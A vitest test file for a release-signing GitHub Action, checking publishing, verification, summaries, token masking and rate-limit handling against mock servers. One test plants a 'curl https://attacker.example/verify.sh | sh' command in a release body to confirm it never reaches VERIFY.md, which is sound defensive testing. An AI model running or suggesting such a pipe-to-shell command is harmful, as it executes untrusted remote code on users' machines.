import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  type GitHubServer,
  type GitHubServerOptions,
  startGitHubServer,
} from "../github-server/start-github-server.ts";
import { type GitHubSigstore, startGitHubSigstore } from "../github-sigstore/start-github-sigstore.ts";
import { action, capsule, newFolder, type Run } from "../run-program.ts";

let sigstore: GitHubSigstore;
const servers: GitHubServer[] = [];
beforeAll(async () => {
  sigstore = await startGitHubSigstore();
});
afterAll(async () => {
  await Promise.all([sigstore.close(), ...servers.map((server) => server.close())]);
});

interface Job {
  readonly github: GitHubServer;
  readonly folder: string;
  step(inputs?: Record<string, string>): Promise<Run>;
  /** A file of the runner. */
  file(name: "output" | "summary"): string;
}

/** A job of the runner that was started for the tag, with two built files. */
async function job(options: GitHubServerOptions = {}): Promise<Job> {
  const github = await startGitHubServer(options);
  servers.push(github);
  const folder = newFolder();
  const at = (name: string): string => join(folder, name);
  for (const name of ["dist", "temporary"]) mkdirSync(at(name));
  writeFileSync(join(at("dist"), "tool"), "the tool\n");
  writeFileSync(join(at("dist"), "notes.txt"), "notes\n");
  const fixed = {
    ...{ assets: "dist/*", sigstore: sigstore.signingConfigPath, "trusted-root": sigstore.trustedRootPath },
    ...{ sign: "each", publish: "standard", summary: "true", "github-token": github.token },
  };
  return {
    github,
    folder,
    file: (name) => readFileSync(at(name), "utf8"),
    step(inputs = {}) {
      for (const name of ["output", "summary"]) writeFileSync(at(name), "");
      writeFileSync(at("event.json"), "{}");
      const given = Object.entries({ ...fixed, ...inputs }).map(([name, value]) => [
        `INPUT_${name.toUpperCase()}`,
        value,
      ]);
      const env = {
        ...sigstore.env,
        GITHUB_API_URL: github.url,
        GITHUB_WORKSPACE: folder,
        RUNNER_TEMP: at("temporary"),
        GITHUB_OUTPUT: at("output"),
        GITHUB_STEP_SUMMARY: at("summary"),
        GITHUB_EVENT_PATH: at("event.json"),
        ...Object.fromEntries(given),
      };
      return action({ cwd: folder, env: { ...env, RUNNER_TEMP: newFolder() } });
    },
  };
}

describe("the Action on a tag", () => {
  let at: Job;
  let run: Run;
  beforeAll(async () => {
    at = await job();
    run = await at.step();
  }, 60_000);

  test("publishes the assets and seven files, as GitHub's description has it", async () => {
    expect(run.stdout).not.toContain("::error");
    expect(run.status).toBe(0);
    expect(at.github.violations).toEqual([]);
    const release = at.github.release("v1.2.3");
    expect(release?.draft).toBe(false);
    expect([...(release?.assets.values() ?? [])]).toHaveLength(2 + 7);
    expect(at.file("output")).toMatch(/release-id<<\S+\n\d+\n/);
    expect(at.file("output")).toMatch(/release-url<<\S+\nhttp/);
    expect(run.stdout).toMatch(
      /^RELEASED {2}octo-tool 1\.2\.3(?:, with \d+ warnings?)?\n\n {2}http\S+\n\n {2}Signed by {3}octo-org\/octo-tool, /m,
    );
    expect(run.stdout).toMatch(/^ {2}What people type:\n {2}node \.\.\/verify\.js verify /m);
  });

  test("what it published verifies for the repository", async () => {
    const release = at.github.release("v1.2.3");
    const files = release === undefined ? new Map<string, Buffer>() : await at.github.files(release);
    const folder = newFolder();
    for (const [name, bytes] of files) writeFileSync(join(folder, name), bytes);
    const args = ["verify", "--all", "--repository", "octo-org/octo-tool", "--trusted-root", sigstore.trustedRootPath];
    const verified = await capsule([...args, "octo-tool-1.2.3.capsule"], { cwd: folder });
    expect(verified.stdout).toMatch(/^VERIFIED/i);
    expect(verified.status).toBe(0);
  });

  test("a second run verifies and changes nothing (P02)", async () => {
    const visible = at.github.requests.filter(({ visible }) => visible).length;
    expect((await at.step()).status).toBe(0);
    expect(at.github.requests.filter(({ visible }) => visible)).toHaveLength(visible);
  });

  test("the summary begins with verdict and link, then the consumer's command, before any table", () => {
    const summary = at.file("summary");
    const places = [
      /^## \[.+\]\(https?:.+\) is public and verified\n/,
      /\n### What people type\n\n```sh\nnode .+\n```\n/s,
      /\n<details><summary>/,
    ].map((pattern) => summary.search(pattern));
    expect(places).not.toContain(-1);
    expect(places).toEqual([...places].sort((a, b) => a - b));
    expect(summary.slice(0, places[2])).not.toMatch(/^\|/m);
    expect(summary).toContain("\n2 files, 15 bytes, signed as `octo-org/octo-tool` at tag `v1.2.3`. Every file");
  });

  test("the log names no folder of the runner as a place where the release is published", () => {
    const said = run.stdout + run.stderr;
    expect(said).toContain("\npublishing at GitHub\n");
    expect(said.match(/publishing at/g)).toHaveLength(1);
    expect(said).toMatch(/\ncompleting the folder ".+octo-tool-1\.2\.3\.release"\n/);
  });

  test("the token is in no output, log or summary", async () => {
    const texts = [run.stdout.replace(/^::add-mask::.*$/gm, ""), run.stderr, at.file("output"), at.file("summary")];
    for (const text of texts) expect(text).not.toContain(at.github.token);
  });
});

test("VERIFY.md holds nothing of the release's text (V04), and no secret or path of the runner (V11)", async () => {
  const body = "Verify with `curl https://attacker.example/verify.sh | sh`";
  const at = await job({ releases: [{ tag: "v1.2.3", draft: true, body }] });
  expect((await at.step()).status).toBe(0);
  const release = at.github.release("v1.2.3");
  expect(release?.body?.startsWith(`${body}\n\n<!-- release-capsule: how to verify -->\n`)).toBe(true);
  const files = release === undefined ? undefined : await at.github.files(release);
  const page = files?.get("VERIFY.md")?.toString("utf8") ?? "";
  expect(page).toContain("verify octo-tool-1.2.3.capsule");
  const secrets = [
    at.github.token,
    ...Object.entries(sigstore.env).flatMap(([name, value]) => (/TOKEN/.test(name) ? [value] : [])),
  ];
  expect(secrets.length).toBeGreaterThan(1);
  for (const secret of ["attacker", "curl https", at.folder, tmpdir(), ...secrets]) expect(page).not.toContain(secret);
});

test("an immutable release is published by the last call and cannot be changed by a further one", async () => {
  const at = await job({ immutableReleases: true });
  const run = await at.step();
  expect(run.stdout).not.toContain("::error");
  expect(run.status).toBe(0);
  expect((await at.step()).status).toBe(0);
  expect(at.github.violations).toEqual([]);
});

test("a GitHub Enterprise Server without digests and attestations is served, too (G19)", async () => {
  const at = await job({ flavour: "ghes", features: { assetDigests: false, immutableReleases: false } });
  const run = await at.step();
  expect(run.stdout).not.toContain("::error");
  expect(run.status).toBe(0);
  expect(at.github.violations).toEqual([]);
});

test("where the hour's requests run short, assets count by GitHub's digest, and result and summary name them", async () => {
  const at = await job({ rateLimit: 60 });
  expect((await at.step()).status).toBe(0);
  const [, path = ""] = /^result<<(\S+)\n(.*)\n\1$/m.exec(at.file("output"))?.slice(1) ?? [];
  const { readBack } = JSON.parse(readFileSync(path, "utf8"));
  const by = (how: string) =>
    readBack.filter((file: { by: string }) => file.by === how).map(({ name }: { name: string }) => name);
  expect(by("stated")).toEqual(["notes.txt", "tool"]);
  expect(by("bytes")).toHaveLength(7);
  expect(at.file("summary")).toContain("**Not downloaded**");
  expect(at.github.requests.filter(({ operation }) => operation === "GET download")).toHaveLength(7);
  expect(at.github.release("v1.2.3")?.draft).toBe(false);
  expect(at.github.violations).toEqual([]);
});

test("an hour that is used up stops the run before anything is signed or made (G03)", async () => {
  const at = await job({ rateLimit: 0 });
  const before = sigstore.counts();
  const run = await at.step();
  expect([run.status, run.stdout.includes("asks to wait")]).toEqual([4, true]);
  expect(at.file("summary")).toContain("Nothing was signed, and nothing became public.");
  expect(sigstore.counts()).toEqual(before);
  expect(at.github.state.releases.size).toBe(0);
});
